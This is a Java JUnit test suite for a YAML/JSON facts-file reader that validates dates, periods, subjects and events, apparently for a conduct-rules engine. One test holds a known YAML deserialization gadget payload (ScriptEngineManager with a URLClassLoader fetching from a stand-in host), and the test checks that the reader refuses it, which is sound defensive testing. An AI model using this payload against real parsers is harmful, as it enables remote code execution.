package vn.conduct.rules.io;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.assertj.core.api.Assertions.catchThrowableOfType;

import java.io.IOException;
import java.io.InputStream;
import java.math.BigDecimal;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.LocalDate;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import vn.conduct.rules.api.EvaluationRequest;
import vn.conduct.rules.api.Event;
import vn.conduct.rules.api.FactProblem;
import vn.conduct.rules.api.Observation;
import vn.conduct.rules.api.Period;
import vn.conduct.rules.api.RulesException;
import vn.conduct.rules.api.Subject;
import vn.conduct.rules.api.ValidationIssue;

class FactsReaderTests {

  private final FactsReader reader = new FactsReader();

  private static byte[] resource(String name) throws IOException {
    try (InputStream in = FactsReaderTests.class.getResourceAsStream("/io/" + name)) {
      assertThat(in).as(name).isNotNull();
      return in.readAllBytes();
    }
  }

  private EvaluationRequest read(String yaml) {
    return reader.read("facts.yaml", yaml.getBytes(StandardCharsets.UTF_8));
  }

  private InvalidFactsException invalid(String yaml) {
    return catchThrowableOfType(InvalidFactsException.class, () -> read(yaml));
  }

  @Test
  void should_read_every_kind_of_fact_from_yaml() throws IOException {
    EvaluationRequest request = reader.read("facts.yaml", resource("facts.yaml"));

    assertThat(request.asOf()).isEqualTo(LocalDate.of(2025, 6, 30));
    assertThat(request.period()).isEqualTo(new Period(LocalDate.of(2025, 6, 1), LocalDate.of(2025, 6, 30)));
    assertThat(request.packIds()).isEmpty();
    assertThat(request.subjects()).extracting(Subject::id).containsExactly("a1", "a2", "o1", "o2", "o3", "o4");
    Subject o1 = request.subjects().get(2);
    assertThat(o1.name()).isEqualTo("Nguyễn Văn An");
    assertThat(o1.parentId()).isEqualTo("a1");
    assertThat(o1.attributes()).containsExactlyInAnyOrderEntriesOf(Map.of(
        "position", "leader", "code", "0123", "joined", LocalDate.of(2019, 3, 1)));
    assertThat(request.subjects().get(0).attributes()).containsEntry("exceptional", false);
    assertThat(request.subjects().get(5).name()).isNull();

    Observation sipas = request.observations().get(0);
    assertThat(sipas.value()).isEqualTo(new BigDecimal("85.5"));
    assertThat(sipas.observedBy()).isEqualTo("Sở Nội vụ");
    assertThat(sipas.observedOn()).isEqualTo(LocalDate.of(2025, 6, 20));
    assertThat(sipas.method()).isEqualTo("survey");
    assertThat(request.observations().get(1).value()).as("quoted stays text").isEqualTo("72");
    assertThat(request.observations().get(2).value()).isEqualTo(Boolean.TRUE);
    assertThat(request.observations().get(4).value()).isEqualTo(Boolean.FALSE);

    assertThat(request.events()).hasSize(3);
    Event first = request.events().get(0);
    assertThat(first.id()).isEqualTo("ev-1");
    assertThat(first.subjectId()).isEqualTo("o2");
    assertThat(first.type()).isEqualTo("late");
    assertThat(first.date()).isEqualTo(LocalDate.of(2025, 6, 3));
    assertThat(first.verified()).as("verified by default").isTrue();
    assertThat(first.attributes()).containsEntry("minutes", new BigDecimal("20"));
    assertThat(request.events().get(2).verified()).isFalse();
  }

  @Test
  void should_read_json_as_well() throws IOException {
    EvaluationRequest request = reader.read("facts.json", resource("facts.json"));

    assertThat(request.asOf()).isEqualTo(LocalDate.of(2025, 6, 30));
    assertThat(request.packIds()).containsExactly("io-test");
    assertThat(request.pinnedVersions()).containsExactly(Map.entry("io-test", "1.0.0"));
    assertThat(request.subjects().get(0).parentId()).isNull();
    assertThat(request.subjects().get(0).attributes()).containsEntry("exceptional", false);
    assertThat(request.subjects().get(1).attributes()).containsEntry("code", "0123");
    assertThat(request.observations()).extracting(Observation::value)
        .containsExactly(new BigDecimal("85.5"), Boolean.TRUE, "true");
    assertThat(request.observations().get(1).observedOn()).isEqualTo(LocalDate.of(2025, 6, 12));
    assertThat(request.events().get(0).verified()).isFalse();
    assertThat(request.events().get(0).attributes()).containsEntry("minutes", new BigDecimal("20"));
  }

  @Test
  void should_report_every_mistake_at_once_with_its_line_column_and_path() {
    InvalidFactsException error = invalid("""
        as-of: 2025-06-31
        periode: {start: 2025-06-01, end: 2025-06-30}
        subjects:
          - {id: a1, type: agency}
          - {id: o1, parent: a1}
          - {id: a1, type: agency, colour: red}
        observations:
          - {subject: o1, indicator: badge-worn}
          - {indicator: signed, value: true, observed-on: 12/06/2025}
        events:
          - {id: ev-1, subject: o1, type: late}
          - {id: ev-2, subject: o1, type: late, date: 2025-6-3, verified: maybe}
          - [not, a, mapping]
        """);

    assertThat(error).isNotNull().isInstanceOf(RulesException.class);
    assertThat(error.source()).isEqualTo("facts.yaml");
    assertThat(error.issues()).extracting(ValidationIssue::location, ValidationIssue::path, ValidationIssue::code)
        .containsExactly(
            org.assertj.core.groups.Tuple.tuple("facts.yaml:1:8", "as-of", "facts.date"),
            org.assertj.core.groups.Tuple.tuple("facts.yaml:2:1", "periode", "facts.unknown-key"),
            org.assertj.core.groups.Tuple.tuple("facts.yaml:5:5", "subjects[1].type", "facts.missing"),
            org.assertj.core.groups.Tuple.tuple("facts.yaml:6:10", "subjects[2].id", "facts.duplicate-id"),
            org.assertj.core.groups.Tuple.tuple("facts.yaml:6:28", "subjects[2].colour", "facts.unknown-key"),
            org.assertj.core.groups.Tuple.tuple("facts.yaml:8:5", "observations[0].value", "facts.missing"),
            org.assertj.core.groups.Tuple.tuple("facts.yaml:9:5", "observations[1].subject", "facts.missing"),
            org.assertj.core.groups.Tuple.tuple("facts.yaml:9:51", "observations[1].observed-on", "facts.date"),
            org.assertj.core.groups.Tuple.tuple("facts.yaml:11:5", "events[0].date", "facts.missing"),
            org.assertj.core.groups.Tuple.tuple("facts.yaml:12:47", "events[1].date", "facts.date"),
            org.assertj.core.groups.Tuple.tuple("facts.yaml:12:67", "events[1].verified", "facts.type"),
            org.assertj.core.groups.Tuple.tuple("facts.yaml:13:5", "events[2]", "facts.type"));
    assertThat(error.issues()).allMatch(i -> i.severity() == ValidationIssue.Level.ERROR);
    assertThat(error.issues().get(1).hint()).contains("did you mean 'period'?");
    assertThat(error.issues().get(3).message()).contains("subject id 'a1'").contains("line 4");
    assertThat(error.issues().get(0).message()).contains("'2025-06-31'").contains("not a date in the calendar");
    assertThat(error.getMessage())
        .startsWith("Facts file at facts.yaml is invalid (12 errors):")
        .contains("ERROR   facts.yaml:5:5  subjects[1].type: missing 'type'");
  }

  @Test
  void should_locate_mistakes_in_json_too() {
    InvalidFactsException error = catchThrowableOfType(InvalidFactsException.class, () -> reader.read("facts.json", """
        {
          "as-of": "2025-06-30",
          "subjects": [
            {"id": "a1", "type": "agency", "atributes": {}}
          ]
        }
        """.getBytes(StandardCharsets.UTF_8)));

    assertThat(error.issues()).singleElement().satisfies(issue -> {
      assertThat(issue.location()).isEqualTo("facts.json:4:36");
      assertThat(issue.path()).isEqualTo("subjects[0].atributes");
      assertThat(issue.hint()).contains("did you mean 'attributes'?");
    });
  }

  @Test
  void should_refuse_unsafe_yaml_with_its_position() {
    InvalidFactsException tag = invalid("""
        as-of: 2025-06-30
        subjects: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://x/"]]]]
        """);
    assertThat(tag.issues()).first().satisfies(issue -> {
      assertThat(issue.code()).isEqualTo("yaml.tag");
      assertThat(issue.line()).isEqualTo(2);
    });

    InvalidFactsException duplicate = invalid("as-of: 2025-06-30\nas-of: 2025-07-31\n");
    assertThat(duplicate.issues()).singleElement()
        .satisfies(issue -> assertThat(issue.location()).isEqualTo("facts.yaml:2:1"))
        .satisfies(issue -> assertThat(issue.code()).isEqualTo("yaml.duplicate-key"));

    InvalidFactsException alias = invalid("as-of: &d 2025-06-30\nperiod: {start: *d, end: *d}\n");
    assertThat(alias.issues()).first().satisfies(issue -> assertThat(issue.code()).isEqualTo("yaml.alias"));
  }

  @Test
  void should_refuse_an_empty_file_or_one_that_is_not_a_mapping() {
    assertThat(invalid("").issues()).extracting(ValidationIssue::code).containsExactly("facts.empty");
    assertThat(invalid("- a\n- b\n").issues()).extracting(ValidationIssue::code).containsExactly("facts.type");
  }

  @Test
  void should_require_as_of_unless_it_is_given_and_then_default_the_period_to_its_month() {
    String noDate = "subjects: [{id: a1, type: agency}]\n";
    assertThat(invalid(noDate).issues()).extracting(ValidationIssue::path).containsExactly("as-of");

    EvaluationRequest request = reader.withAsOf(LocalDate.of(2025, 2, 14))
        .read("facts.yaml", noDate.getBytes(StandardCharsets.UTF_8));
    assertThat(request.asOf()).isEqualTo(LocalDate.of(2025, 2, 14));
    assertThat(request.period()).isEqualTo(Period.monthOf(LocalDate.of(2025, 2, 14)));

    EvaluationRequest overridden = reader.withAsOf(LocalDate.of(2025, 7, 1))
        .read("facts.yaml", "as-of: 2025-06-30\n".getBytes(StandardCharsets.UTF_8));
    assertThat(overridden.asOf()).isEqualTo(LocalDate.of(2025, 7, 1));
    assertThat(reader.withAsOf(LocalDate.of(2025, 7, 1)).asOf()).contains(LocalDate.of(2025, 7, 1));
    assertThat(reader.asOf()).isEmpty();
  }

  @Test
  void should_refuse_a_period_that_ends_before_it_starts() {
    assertThat(invalid("as-of: 2025-06-30\nperiod: {start: 2025-06-30, end: 2025-06-01}\n").issues())
        .singleElement().satisfies(issue -> {
          assertThat(issue.path()).isEqualTo("period.end");
          assertThat(issue.code()).isEqualTo("facts.period");
        });
  }

  @Test
  void should_type_unquoted_scalars_and_keep_quoted_ones_as_text() {
    assertThat(FactsReader.convertScalar("true", false)).isEqualTo(Boolean.TRUE);
    assertThat(FactsReader.convertScalar("false", false)).isEqualTo(Boolean.FALSE);
    assertThat(FactsReader.convertScalar("-12.50", false)).isEqualTo(new BigDecimal("-12.50"));
    assertThat(FactsReader.convertScalar("2025-06-30", false)).isEqualTo(LocalDate.of(2025, 6, 30));
    assertThat(FactsReader.convertScalar("2025-02-30", false)).isEqualTo("2025-02-30");
    assertThat(FactsReader.convertScalar("yes", false)).isEqualTo("yes");
    assertThat(FactsReader.convertScalar("1e3", false)).isEqualTo("1e3");
    assertThat(FactsReader.convertScalar("0x1F", false)).isEqualTo("0x1F");
    assertThat(FactsReader.convertScalar("true", true)).isEqualTo("true");
    assertThat(FactsReader.convertScalar("80", true)).isEqualTo("80");

    EvaluationRequest request = read("""
        as-of: 2025-06-30
        subjects:
          - id: o1
            type: officer
            attributes: {a: '42', b: "2025-06-01", c: 42, d: null, e: Hà Nội}
        """);
    assertThat(request.subjects().get(0).attributes())
        .containsExactlyInAnyOrderEntriesOf(Map.of("a", "42", "b", "2025-06-01", "c", new BigDecimal("42"), "e", "Hà Nội"));
  }

  @Test
  void should_report_a_missing_file_without_a_stack_of_causes(@TempDir Path directory) {
    Path missing = directory.resolve("nope.yaml");
    assertThatThrownBy(() -> reader.read(missing))
        .isInstanceOf(InvalidFactsException.class)
        .hasMessageContaining("no such file")
        .satisfies(e -> assertThat(((InvalidFactsException) e).issues()).extracting(ValidationIssue::code)
            .containsExactly("facts.io"));
  }

  @Test
  void should_read_a_path_and_locate_facts_the_engine_complains_about(@TempDir Path directory) throws IOException {
    Path file = directory.resolve("june.yaml");
    Files.write(file, resource("facts.yaml"));

    FactsFile facts = reader.load(file);

    assertThat(facts.source()).isEqualTo(file.toString());
    assertThat(facts.fileName()).isEqualTo("june.yaml");
    assertThat(facts.request().subjects()).hasSize(6);
    assertThat(facts.locate(FactProblem.of("observation", 8, "indicator", "no such indicator")))
        .contains("june.yaml:19:30");
    assertThat(facts.locate(FactProblem.of("subject", 2, "attributes.code", "x"))).contains("june.yaml:6:101");
    assertThat(facts.locate(FactProblem.of("subject", 5, "attributes.missing", "x")))
        .as("falls back to the nearest enclosing value").contains("june.yaml:9:53");
    assertThat(facts.locate(FactProblem.of("event", 99, "type", "x"))).isEmpty();
    assertThat(FactsFile.path(FactProblem.of("event", 1, "attributes.minutes", "x")))
        .isEqualTo("events[1].attributes.minutes");
  }

  @Test
  void should_report_problems_in_the_files_own_words_for_wrong_shapes() {
    InvalidFactsException error = invalid("""
        as-of: 2025-06-30
        packs: hanoi-522
        pin: [hanoi-522]
        subjects: {id: a1}
        observations:
          - {subject: o1, indicator: n, value: [1, 2]}
        events:
          - {subject: [o1], type: late, date: 2025-06-01, attributes: [1]}
        """);

    assertThat(error.issues()).extracting(ValidationIssue::path).containsExactly(
        "packs", "pin", "subjects", "observations[0].value", "events[0].subject", "events[0].attributes");
    assertThat(error.issues()).extracting(ValidationIssue::code).containsOnly("facts.type");
  }

  @Test
  void should_accept_a_file_with_no_facts_but_a_date() {
    EvaluationRequest request = read("as-of: 2025-06-30\nsubjects: []\n");
    assertThat(request.subjects()).isEmpty();
    assertThat(request.observations()).isEmpty();
    assertThat(request.events()).isEmpty();
    assertThat(List.of(request.period().start(), request.period().end()))
        .containsExactly(LocalDate.of(2025, 6, 1), LocalDate.of(2025, 6, 30));
  }

  @Test
  void should_hand_extension_keys_to_the_tool_that_asked_for_them() {
    FactsFile file = reader.withExtensionKeys("expect", "description").load("fixture.yaml", """
        as-of: 2025-06-30
        description: one officer
        subjects:
          - {id: o1, type: officer}
        expect:
          o1: {outcomes: {r.badge: FAIL}, score: 90.5, code: "007", on: 2025-06-30}
        """.getBytes(StandardCharsets.UTF_8));

    assertThat(file.extension("description")).contains("one officer");
    assertThat(file.extension("expect")).get().isEqualTo(Map.of("o1", Map.of(
        "outcomes", Map.of("r.badge", "FAIL"), "score", new BigDecimal("90.5"), "code", "007",
        "on", LocalDate.of(2025, 6, 30))));
    assertThat(file.locate("expect.o1.outcomes.r.badge")).contains("fixture.yaml:6:28");
    assertThatThrownBy(() -> file.extension("colour")).isInstanceOf(IllegalArgumentException.class);
    assertThat(invalid("as-of: 2025-06-30\nexpect: {}\n").issues())
        .extracting(ValidationIssue::code).containsExactly("facts.unknown-key");
  }

  // ------------------------------------------------------------------------- facts format 2

  @Test
  void should_read_format_2_with_a_text_period_a_decision_date_and_recorded_dates() {
    EvaluationRequest request = read("""
        format: 2
        period: 2025-Q2
        decided-on: 2025-07-05
        subjects:
          - {id: o1, type: officer}
        observations:
          - {subject: o1, indicator: score, value: 80, observed-on: 2025-06-10, recorded-on: 2025-06-12}
          - {subject: o1, indicator: score, value: 70, observed-on: 2025-06-20}
        events:
          - {subject: o1, type: late, date: 2025-06-03, recorded-on: 2025-07-01}
          - {subject: o1, type: late, date: 2025-06-04}
        """);

    assertThat(request.period()).isEqualTo(Period.quarter(2025, 2));
    assertThat(request.periodGiven()).isTrue();
    assertThat(request.decisionDate()).isEqualTo(LocalDate.of(2025, 7, 5));
    assertThat(request.asOf()).as("the same date under its format 1 name").isEqualTo(LocalDate.of(2025, 7, 5));
    assertThat(request.observations()).extracting(Observation::recordedOn)
        .containsExactly(LocalDate.of(2025, 6, 12), null);
    assertThat(request.events()).extracting(Event::recordedOn).containsExactly(LocalDate.of(2025, 7, 1), null);
    assertThat(request.events()).extracting(Event::recorded)
        .as("recorded-on defaults to the date").containsExactly(LocalDate.of(2025, 7, 1), LocalDate.of(2025, 6, 4));
  }

  @Test
  void should_read_every_text_form_of_a_format_2_period_and_decide_on_its_last_day_by_default() {
    Map<String, Period> forms = new java.util.LinkedHashMap<>();
    forms.put("2025", Period.year(2025));
    forms.put("2025-06", Period.month(2025, 6));
    forms.put("2025-Q4", Period.quarter(2025, 4));
    forms.put("2025-01-01/2025-06-30", Period.of(LocalDate.of(2025, 1, 1), LocalDate.of(2025, 6, 30)));
    forms.put("\"2025\"", Period.year(2025));
    forms.put("{start: 2025-03-01, end: 2025-03-15}", Period.of(LocalDate.of(2025, 3, 1), LocalDate.of(2025, 3, 15)));
    forms.forEach((text, period) -> {
      EvaluationRequest request = read("format: 2\nperiod: " + text + "\n");
      assertThat(request.period()).as(text).isEqualTo(period);
      assertThat(request.periodGiven()).as(text).isTrue();
      assertThat(request.decisionDate()).as("decided on the last day of " + text).isEqualTo(period.end());
    });
  }

  @Test
  void should_let_a_format_2_file_give_only_the_decision_date() {
    EvaluationRequest request = read("format: 2\ndecided-on: 2025-02-14\n");

    assertThat(request.decisionDate()).isEqualTo(LocalDate.of(2025, 2, 14));
    assertThat(request.periodGiven()).as("each pack judges its natural period containing the date").isFalse();
    assertThat(request.period()).isEqualTo(Period.monthOf(LocalDate.of(2025, 2, 14)));
  }

  @Test
  void should_refuse_a_format_2_file_with_neither_period_nor_decision_date_unless_the_host_gives_one() {
    String bare = "format: 2\nsubjects: [{id: o1, type: officer}]\n";
    assertThat(invalid(bare).issues()).extracting(ValidationIssue::code).containsExactly("facts.missing");

    EvaluationRequest dated = reader.withAsOf(LocalDate.of(2025, 6, 30)).read("facts.yaml",
        bare.getBytes(StandardCharsets.UTF_8));
    assertThat(dated.decisionDate()).isEqualTo(LocalDate.of(2025, 6, 30));
    assertThat(dated.periodGiven()).isFalse();

    EvaluationRequest judged = reader.withPeriod(Period.year(2025)).read("facts.yaml",
        bare.getBytes(StandardCharsets.UTF_8));
    assertThat(judged.period()).isEqualTo(Period.year(2025));
    assertThat(judged.decisionDate()).isEqualTo(LocalDate.of(2025, 12, 31));
  }

  @Test
  void should_let_the_host_impose_the_decision_date_and_period_on_a_format_2_file() {
    byte[] file = "format: 2\nperiod: 2025-06\ndecided-on: 2025-07-05\n".getBytes(StandardCharsets.UTF_8);

    EvaluationRequest request = reader.withAsOf(LocalDate.of(2025, 7, 20)).withPeriod(Period.year(2025))
        .read("facts.yaml", file);

    assertThat(request.decisionDate()).isEqualTo(LocalDate.of(2025, 7, 20));
    assertThat(request.period()).isEqualTo(Period.year(2025));
  }

  @Test
  void should_refuse_a_fact_recorded_before_it_happened() {
    InvalidFactsException error = invalid("""
        format: 2
        period: 2025-06
        observations:
          - {subject: o1, indicator: score, value: 80, observed-on: 2025-06-10, recorded-on: 2025-06-09}
          - {subject: o1, indicator: score, value: 80, observed-on: 2025-06-10, recorded-on: 2025-06-10}
        events:
          - {subject: o1, type: late, date: 2025-06-03, recorded-on: 2025-06-02}
          - {subject: o1, type: late, date: 2025-06-03, recorded-on: 2025-6-4}
        """);

    assertThat(error.issues()).extracting(ValidationIssue::path, ValidationIssue::code).containsExactly(
        org.assertj.core.groups.Tuple.tuple("observations[0].recorded-on", "facts.date"),
        org.assertj.core.groups.Tuple.tuple("events[0].recorded-on", "facts.date"),
        org.assertj.core.groups.Tuple.tuple("events[1].recorded-on", "facts.date"));
    assertThat(error.issues().get(0).location()).isEqualTo("facts.yaml:4:86");
    assertThat(error.issues().get(0).message()).contains("2025-06-09").contains("2025-06-10");
  }

  @Test
  void should_refuse_as_of_in_a_format_2_file() {
    InvalidFactsException error = invalid("format: 2\nas-of: 2025-06-30\nperiod: 2025-06\n");

    assertThat(error.issues()).singleElement().satisfies(issue -> {
      assertThat(issue.code()).isEqualTo("facts.unknown-key");
      assertThat(issue.path()).isEqualTo("as-of");
      assertThat(issue.location()).isEqualTo("facts.yaml:2:1");
      assertThat(issue.hint()).contains("decided-on");
    });
  }

  @Test
  void should_refuse_format_2_keys_in_a_format_1_file() {
    String body = """
        as-of: 2025-06-30
        decided-on: 2025-07-05
        period: 2025-06
        observations:
          - {subject: o1, indicator: score, value: 80, observed-on: 2025-06-10, recorded-on: 2025-06-12}
        events:
          - {subject: o1, type: late, date: 2025-06-03, recorded-on: 2025-06-04}
        """;
    for (String file : List.of(body, "format: 1\n" + body)) {
      InvalidFactsException error = invalid(file);
      assertThat(error.issues()).as(file).extracting(ValidationIssue::path, ValidationIssue::code).containsExactly(
          org.assertj.core.groups.Tuple.tuple("decided-on", "facts.format-feature"),
          org.assertj.core.groups.Tuple.tuple("period", "facts.format-feature"),
          org.assertj.core.groups.Tuple.tuple("observations[0].recorded-on", "facts.format-feature"),
          org.assertj.core.groups.Tuple.tuple("events[0].recorded-on", "facts.format-feature"));
      assertThat(error.issues()).allSatisfy(issue -> assertThat(issue.hint()).contains("format: 2"));
    }

    EvaluationRequest mapping = read("format: 1\nas-of: 2025-06-30\nperiod: {start: 2025-06-01, end: 2025-06-15}\n");
    assertThat(mapping.period()).as("a period mapping is format 1").isEqualTo(
        Period.of(LocalDate.of(2025, 6, 1), LocalDate.of(2025, 6, 15)));
  }

  @Test
  void should_refuse_a_format_it_does_not_know() {
    for (String format : List.of("3", "0", "two", "1.5")) {
      assertThat(invalid("format: " + format + "\nas-of: 2025-06-30\n").issues()).as(format)
          .extracting(ValidationIssue::path, ValidationIssue::code)
          .contains(org.assertj.core.groups.Tuple.tuple("format", "facts.format"));
    }
  }

  @Test
  void should_refuse_a_text_period_or_decision_date_that_is_not_one() {
    for (String period : List.of("2025-13", "2025-Q5", "June", "25")) {
      assertThat(invalid("format: 2\nperiod: " + period + "\n").issues()).as(period)
          .extracting(ValidationIssue::path, ValidationIssue::code)
          .containsExactly(org.assertj.core.groups.Tuple.tuple("period", "facts.date"));
    }
    assertThat(invalid("format: 2\ndecided-on: 2025-02-30\n").issues())
        .extracting(ValidationIssue::path, ValidationIssue::code)
        .containsExactly(org.assertj.core.groups.Tuple.tuple("decided-on", "facts.date"));
  }
}
